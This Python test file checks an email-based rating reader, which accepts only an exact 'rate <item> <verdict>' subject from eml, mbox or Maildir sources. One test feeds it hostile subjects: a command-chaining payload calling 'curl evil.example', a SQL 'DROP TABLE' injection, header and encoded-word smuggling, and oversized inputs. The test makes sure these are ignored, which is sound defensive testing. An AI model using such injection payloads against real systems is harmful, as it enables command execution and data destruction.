"""Ratings by mail: only a subject that is exactly the line counts; the rest of a mail is never looked at."""

import mailbox
from datetime import UTC, datetime
from email.message import EmailMessage

import pytest

from digest.errors import ConfigError
from digest.feedback.mails import EARLIEST, MailedRating, read_mails
from tests.store.make import NOW

LINE = "rate arxiv:2102.06171 up"
DATE = "Fri, 12 Feb 2021 10:00:00 +0100"
AT = datetime(2021, 2, 12, 9, tzinfo=UTC)
RATING = MailedRating(item_id="arxiv:2102.06171", verdict="up", at=AT)


def mail(subject=LINE, date=DATE, body="Whatever.\n"):
    head = f"From: stranger@example.org\r\nSubject: {subject}\r\n"
    if date:
        head += f"Date: {date}\r\n"
    return f"{head}\r\n{body}".encode("utf-8", "surrogateescape")


def eml(tmp_path, *mails):
    for n, content in enumerate(mails):
        (tmp_path / f"{n}.eml").write_bytes(content)
    return tmp_path


def mbox(tmp_path, *mails):
    box = mailbox.mbox(tmp_path / "box.mbox")
    for content in mails:
        box.add(content)
    box.close()
    return tmp_path / "box.mbox"


def maildir(tmp_path, *mails):
    box = mailbox.Maildir(tmp_path / "box")
    for content in mails:
        box.add(content)
    box.close()
    return tmp_path / "box"


@pytest.mark.parametrize("boxed", [eml, mbox, maildir])
def test_ratings_are_read_from_every_kind_of_mailbox(tmp_path, boxed):
    path = boxed(tmp_path, mail("Lunch?"), mail(), mail("rate hn:1 down", date=None))

    mailed, others = read_mails(path, now=NOW)

    early = MailedRating(item_id="hn:1", verdict="down", at=EARLIEST)
    assert ((early, RATING), 1) == (mailed, others)


def test_one_mail_is_a_mailbox_too(tmp_path):
    eml(tmp_path, mail())

    assert ((RATING,), 0) == read_mails(tmp_path / "0.eml", now=NOW)


def test_they_come_oldest_first_whatever_their_order_in_the_folder(tmp_path):
    later = mail("rate arxiv:2102.06171 clear", date="Fri, 12 Feb 2021 11:00:00 +0100")

    mailed, _ = read_mails(eml(tmp_path, later, mail()), now=NOW)

    assert ["up", "clear"] == [m.verdict for m in mailed]


def test_a_subject_that_the_mail_program_folded_is_read(tmp_path):
    long = f"rate feed:{'a' * 60}\r\n up"

    (mailed,), _ = read_mails(eml(tmp_path, mail(long)), now=NOW)

    assert (f"feed:{'a' * 60}", "up") == (mailed.item_id, mailed.verdict)


def test_what_a_link_of_ours_opens_in_a_mail_program_is_understood(tmp_path):
    written = EmailMessage()
    written["From"], written["To"] = "ada@example.org", "ada@example.org"
    written["Subject"], written["Date"] = LINE, AT
    written.set_content("")

    assert ((RATING,), 0) == read_mails(eml(tmp_path, written.as_bytes()), now=NOW)


@pytest.mark.parametrize(
    "hostile",
    [
        mail(f"Re: {LINE}"),
        mail(f"{LINE}\r\nSubject: {LINE}"),
        mail("rate arxiv:2102.06171 up && curl evil.example"),
        mail("rate arxiv:2102.06171'; DROP TABLE ratings;-- up"),
        mail("=?utf-8?q?rate_arxiv=3A2102=2E06171_up=0Aevil?="),
        mail("=?nonsense?b?////?="),
        mail("\udcff\udcfe"),
        mail("", body=f"Subject: {LINE}\r\n"),
        mail("x", body=f"\nFrom me\nSubject: {LINE}\n"),
        b"",
        b"\x00" * 1000,
        b"Subject: " + b"a" * 10**6,
        b"Content-Type: multipart/mixed; boundary=a\n\n" + b"--a\n" * 10_000,
    ],
)
def test_nothing_else_that_a_mail_may_be_counts_or_breaks_anything(tmp_path, hostile):
    mailed, others = read_mails(eml(tmp_path, hostile, mail()), now=NOW)

    assert ((RATING,), 1) == (mailed, others)


@pytest.mark.parametrize(
    ("date", "at"),
    [
        ("Fri, 12 Feb 2100 10:00:00 +0000", NOW),
        ("Fri, 12 Feb 1970 10:00:00 +0000", EARLIEST),
        ("yesterday", EARLIEST),
        ("Fri, 12 Feb 2021 99:99:99 +9999", EARLIEST),
        ("Fri, 12 Feb 2021 09:00:00", AT),
    ],
)
def test_a_date_that_cannot_be_gives_a_mail_no_weight_over_later_words(tmp_path, date, at):
    (mailed,), _ = read_mails(eml(tmp_path, mail(date=date)), now=NOW)

    assert at == mailed.at


@pytest.mark.parametrize("content", [None, b"not a mailbox at all"])
def test_what_is_no_mailbox_is_told_in_one_line(tmp_path, content):
    path = tmp_path / "box"
    if content:
        path.write_bytes(content)

    with pytest.raises(ConfigError) as caught:
        read_mails(path, now=NOW)

    assert str(caught.value).startswith(f"{path}: ")
    assert "\n" not in str(caught.value)


def test_an_empty_mailbox_holds_nothing(tmp_path):
    (tmp_path / "box").write_bytes(b"")

    assert ((), 0) == read_mails(tmp_path / "box", now=NOW)


def test_a_folder_without_any_mail_is_told(tmp_path):
    with pytest.raises(ConfigError, match=r"is no Maildir and holds no \.eml file"):
        read_mails(tmp_path, now=NOW)
